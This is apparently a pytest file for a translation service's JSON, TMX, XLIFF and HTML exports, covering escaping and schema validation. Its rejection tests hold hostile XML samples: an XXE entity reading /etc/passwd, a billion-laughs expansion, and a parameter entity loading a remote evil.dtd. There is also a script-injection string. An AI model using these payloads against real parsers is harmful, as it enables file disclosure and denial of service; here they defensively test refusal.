"""Exports of a stored, translated document: JSON, TMX, XLIFF and standalone HTML.

The document is the seed article stored on SQLite and PostgreSQL (the ``database`` fixture) with
translation rows into en and ko saved through the store, under an explicit test model id; one
sentence holds markup and ampersands to prove the escaping. TMX and XLIFF are checked against
the bundled official schemas and read back.
"""

from __future__ import annotations

import datetime as dt
import json
import re
from dataclasses import dataclass

import pytest
from lxml import etree
from markupsafe import escape
from sqlalchemy import select

from service.aligned import AlignedDocument, aligned_document
from service.exports import FORMATS, export_document
from service.exports.tmx_import import TmxPair, read_tmx, read_xliff
from service.exports.validate import validate_tmx, validate_xliff
from service.exports.xliff import XLIFF_NS
from service.ingest import store_article
from service.parse import parse_article
from service.storage.db import Database
from service.storage.document_store import NewTranslation, get_document, save_translations
from service.storage.tables import SegmentRow, TranslationRow

ANCHOR = "Warum setzt Nordkorea auf diese riskante Partnerschaft?"
TRICKY = 'Tom & Jerry zeigen <script>alert("x&y")</script> &amp; <b>nichts</b> an.'
MODEL = {"model_id": "test-model", "model_revision": "rev-1", "engine": "test-engine"}
UNTRANSLATED_KO = "s09"  # the ko rows leave the last section out: translatable but not translated


@dataclass(frozen=True)
class Row:
    """One stored translation with its source segment, read while the session was open."""

    key: str
    lang: str
    text: str
    target_lang: str
    target_text: str
    model_id: str
    model_revision: str
    engine: str
    route: str
    created_at: dt.datetime

    @classmethod
    def of(cls, segment: SegmentRow, row: TranslationRow) -> Row:
        return cls(
            segment.key, segment.lang, segment.text, row.target_lang, row.text,
            row.model_id, row.model_revision, row.engine, row.route, row.created_at,
        )  # fmt: skip


@dataclass
class Stored:
    document: AlignedDocument
    rows: list[Row]

    def expected(self, *langs: str) -> set[tuple[object, ...]]:
        return {
            (
                f"{self.document.id}:{row.key}",
                row.lang,
                row.text,
                row.target_lang,
                row.target_text,
                row.model_id,
                row.model_revision,
                row.engine,
                row.route,
            )
            for row in self.rows
            if row.target_lang in langs
        }


def _key(pair: TmxPair) -> tuple[object, ...]:
    props = pair.props
    return (
        pair.tuid,
        pair.source_lang,
        pair.source_text,
        pair.target_lang,
        pair.target_text,
        props.get("x-model-id"),
        props.get("x-model-revision"),
        props.get("x-engine"),
        props.get("x-route"),
    )


def _translation(segment: SegmentRow, lang: str) -> str:
    if lang == "en":
        return f"EN {segment.key}: <i>{segment.text[:20]}</i> & more"
    return f"한국어 {segment.key} «{segment.text[:10]}» &"


@pytest.fixture
def stored(database: Database, seed_text: str) -> Stored:
    assert seed_text.count(ANCHOR) == 1
    text = seed_text.replace(ANCHOR, f"{ANCHOR} {TRICKY}")
    with database.session() as session:
        document = store_article(session, text, parse_article(text))
        segments = session.scalars(
            select(SegmentRow)
            .where(SegmentRow.document_id == document.id, SegmentRow.translatable.is_(True))
            .order_by(SegmentRow.order)
        ).all()
        assert TRICKY in [segment.text for segment in segments]
        new = [
            NewTranslation(segment.id, lang, _translation(segment, lang), **MODEL, route=f"de>{lang}")
            for lang in ("en", "ko")
            for segment in segments
            if not (lang == "ko" and segment.key.startswith(UNTRANSLATED_KO))
        ]
        assert save_translations(session, new) == len(new)
        session.commit()
        session.expire_all()
        loaded = get_document(session, document.id)
        assert loaded is not None
        rows = [Row.of(segment, row) for segment in loaded.segments for row in segment.translations]
        return Stored(aligned_document(loaded), rows)


def test_tmx_is_valid_and_round_trips(stored: Stored) -> None:
    content, media_type = export_document(stored.document, "tmx")
    assert media_type == "application/x-tmx+xml"
    validate_tmx(content)
    header = etree.fromstring(content).find("header")
    assert header is not None
    assert header.get("creationtool") == "Interlinear"
    assert header.get("srclang") == "de"
    assert header.get("adminlang") == "en"
    assert header.get("datatype") == "plaintext"
    assert header.get("segtype") == "sentence"
    assert header.get("o-tmf")
    assert re.fullmatch(r"\d{8}T\d{6}Z", header.get("creationdate", ""))

    pairs = read_tmx(content)
    assert {_key(pair) for pair in pairs} == stored.expected("en", "ko")
    assert len(pairs) == len(stored.rows)
    created = {(f"{stored.document.id}:{r.key}", r.target_lang): r.created_at for r in stored.rows}
    for pair in pairs:
        want = created[(pair.tuid or "", pair.target_lang)]
        want = want if want.tzinfo else want.replace(tzinfo=dt.UTC)
        assert pair.created == want.astimezone(dt.UTC).replace(microsecond=0)

    assert b"<script>" not in content and b"&lt;script&gt;" in content
    assert TRICKY in {pair.source_text for pair in pairs}
    # One <tu> per translated sentence, with the source and each target in it.
    tus = etree.fromstring(content).findall("body/tu")
    assert len(tus) == len({row.key for row in stored.rows})


def test_tmx_of_one_target_language(stored: Stored) -> None:
    content, _ = export_document(stored.document, "tmx", ["ko"])
    validate_tmx(content)
    assert {_key(pair) for pair in read_tmx(content)} == stored.expected("ko")


@pytest.mark.parametrize("lang", ["en", "ko"])
def test_xliff_is_valid_and_round_trips(stored: Stored, lang: str) -> None:
    content, media_type = export_document(stored.document, "xliff", [lang])
    assert media_type == "application/xliff+xml"
    validate_xliff(content)
    assert {_key(pair) for pair in read_xliff(content)} == stored.expected(lang)

    root = etree.fromstring(content)
    assert (root.get("version"), root.get("srcLang"), root.get("trgLang")) == ("2.0", "de", lang)
    ns = {"x": XLIFF_NS}
    groups = root.findall("x:file/x:group", ns)
    assert [group.get("id") for group in groups] == [section.id for section in stored.document.sections]
    units = {unit.get("id"): unit for unit in root.iterfind(".//x:unit", ns)}
    segments = stored.document.all_segments()
    assert set(units) == {segment.id for segment in segments if segment.translatable}
    untranslated = [key for key in units if key.startswith(UNTRANSLATED_KO)]
    assert untranslated
    for key in untranslated:
        target = units[key].find("x:segment/x:target", ns)
        assert (target is None) == (lang == "ko")
        assert units[key].findtext("x:segment/x:source", namespaces=ns)


def test_xliff_needs_one_target_language(stored: Stored) -> None:
    with pytest.raises(ValueError, match="one target language") as raised:
        export_document(stored.document, "xliff")
    assert "en, ko" in str(raised.value)


def test_xliff_without_targets_is_source_only(stored: Stored) -> None:
    content, _ = export_document(stored.document, "xliff", [])
    validate_xliff(content)
    root = etree.fromstring(content)
    assert root.get("trgLang") is None
    assert root.find(f".//{{{XLIFF_NS}}}target") is None
    assert read_xliff(content) == []


def test_json_is_the_api_shape(stored: Stored) -> None:
    content, media_type = export_document(stored.document, "json")
    assert media_type == "application/json"
    assert json.loads(content) == stored.document.model_dump(mode="json")

    only_en = json.loads(export_document(stored.document, "json", ["en"])[0])
    assert only_en["target_langs"] == ["en"]
    assert all(
        set(segment["translations"]) <= {"en"}
        for section in only_en["sections"]
        for segment in section["segments"]
    )


def test_html_is_standalone_and_escaped(stored: Stored) -> None:
    content, media_type = export_document(stored.document, "html")
    assert media_type.startswith("text/html")
    page = content.decode("utf-8")
    for segment in stored.document.all_segments():
        assert str(escape(segment.text)) in page, segment.id
        for output in segment.translations.values():
            assert str(escape(output.text)) in page, segment.id
    assert "&lt;script&gt;alert(&#34;x&amp;y&#34;)&lt;/script&gt; &amp;amp;" in page
    assert "<script" not in page.lower()
    assert "<link" not in page.lower()
    assert re.search(r"\b(?:src|href)\s*=", page) is None  # nothing to fetch, nowhere to go
    assert "test-model @ rev-1 (test-engine)" in page


def test_unknown_format_and_language_are_refused(stored: Stored) -> None:
    with pytest.raises(ValueError, match="unknown export format 'docx'") as raised:
        export_document(stored.document, "docx")
    assert all(fmt in str(raised.value) for fmt in FORMATS)
    with pytest.raises(ValueError, match="no translations into fr; target languages available: en, ko"):
        export_document(stored.document, "tmx", ["fr"])
    # the article's own language is no translation (an outside attack was told it had none "into de")
    with pytest.raises(ValueError, match="is in de: export a target language \\(available: en, ko\\)"):
        export_document(stored.document, "tmx", ["de"])


# Readers and validators on hand-written input: no database needed.

OTHER_TOOL_TMX = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<!DOCTYPE tmx SYSTEM "tmx14.dtd">\n'
    b'<tmx version="1.4">\n'
    b'  <header creationtool="OtherTool" creationtoolversion="9" segtype="sentence" o-tmf="x"\n'
    b'          adminlang="en-US" srclang="EN-US" datatype="html"/>\n'
    b"  <body>\n"
    b'    <tu tuid="1" creationdate="20240102T030405Z">\n'
    b'      <prop type="x-client">ACME</prop>\n'
    b'      <tuv xml:lang="de-DE"><prop type="x-client">ACME DE</prop><seg>Das ist '
    b'<bpt i="1">&lt;b&gt;</bpt>fett<ept i="1">&lt;/b&gt;</ept><ph x="2">&lt;br/&gt;</ph> '
    b'und <hi type="term">wichtig</hi>.</seg></tuv>\n'
    b'      <tuv xml:lang="en-US"><seg>This is '
    b'<bpt i="1">&lt;b&gt;</bpt>bold<ept i="1">&lt;/b&gt;</ept><ph x="2">&lt;br/&gt;</ph> '
    b'and <hi type="term">important</hi>.</seg></tuv>\n'
    b'      <tuv lang="FR"><seg>Voir <ph x="3">&lt;a title="<sub>note</sub>"&gt;</ph>ici'
    b'<it pos="end">&lt;/a&gt;</it> &amp; l\xc3\xa0.</seg></tuv>\n'
    b"    </tu>\n"
    b'    <tu><tuv xml:lang="en-US"><seg>Only a source</seg></tuv></tu>\n'
    b'    <tu><tuv xml:lang="ko"><seg>\xec\x86\x8c\xec\x8a\xa4 \xec\x97\x86\xec\x9d\x8c</seg></tuv>'
    b'<tuv xml:lang="de"><seg>keine Quelle</seg></tuv></tu>\n'
    b"  </body>\n"
    b"</tmx>\n"
)


def test_read_tmx_from_another_tool() -> None:
    pairs = read_tmx(OTHER_TOOL_TMX)
    assert [(p.source_lang, p.target_lang) for p in pairs] == [("en-US", "de-DE"), ("en-US", "FR")]
    assert pairs[0].source_text == "This is bold and important."
    assert pairs[0].target_text == "Das ist fett und wichtig."
    assert pairs[1].target_text == "Voir ici & là."
    assert pairs[0].props == {"x-client": "ACME DE"}
    assert pairs[1].props == {"x-client": "ACME"}
    assert pairs[0].tuid == "1"
    assert pairs[0].created == dt.datetime(2024, 1, 2, 3, 4, 5, tzinfo=dt.UTC)


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE tmx [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<tmx version="1.4"><header creationtool="x" creationtoolversion="1" segtype="sentence" o-tmf="x"
adminlang="en" srclang="en" datatype="plaintext"/><body><tu><tuv xml:lang="en"><seg>&xxe;</seg></tuv>
<tuv xml:lang="de"><seg>x</seg></tuv></tu></body></tmx>"""

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE tmx [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;">]>
<tmx version="1.4"><header/><body>&c;</body></tmx>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE tmx [<!ENTITY % remote SYSTEM "http://203.0.113.1/evil.dtd"> %remote;]>
<tmx version="1.4"><header/><body/></tmx>"""

UNDECLARED_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE tmx SYSTEM "tmx14.dtd">
<tmx version="1.4"><header/><body><tu><tuv xml:lang="en"><seg>a&nbsp;b</seg></tuv></tu></body></tmx>"""


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"<tmx><header></tmx>", "not well-formed XML"),
        (b"", "not well-formed XML"),
        (XXE, r"declares entities in its DOCTYPE \(xxe\)"),
        (LAUGHS, r"declares entities in its DOCTYPE \(a, b, c\)"),
        (PARAMETER_ENTITY, r"declares entities in its DOCTYPE \(remote\)"),
        (UNDECLARED_ENTITY, "refers to the entity &nbsp;"),
        (b"<xliff/>", "not TMX: the root element is <xliff>"),
        (b'<tmx version="1.4"><body/></tmx>', "needs a <header> and a <body>"),
    ],
)
def test_bad_tmx_is_refused(content: bytes, message: str) -> None:
    with pytest.raises(ValueError, match=message):
        read_tmx(content)
    with pytest.raises(ValueError):
        validate_tmx(content)


def test_bad_xliff_is_refused() -> None:
    with pytest.raises(ValueError, match="declares entities"):
        read_xliff(XXE.replace(b"tmx", b"xliff"))
    with pytest.raises(ValueError, match=r"XLIFF 1\.2"):
        read_xliff(b'<xliff xmlns="urn:oasis:names:tc:xliff:document:1.2" version="1.2"/>')


def test_validators_report_schema_errors() -> None:
    invalid_tmx = OTHER_TOOL_TMX.replace(b' creationtoolversion="9"', b"")
    with pytest.raises(ValueError, match="creationtoolversion"):
        validate_tmx(invalid_tmx)
    invalid_xliff = (
        f'<xliff xmlns="{XLIFF_NS}" version="2.0" srcLang="de"><file id="f">'
        '<unit id="u"><segment><target>x</target></segment></unit></file></xliff>'
    ).encode()
    with pytest.raises(ValueError, match=r"not valid against xliff_core_2\.0\.xsd"):
        validate_xliff(invalid_xliff)
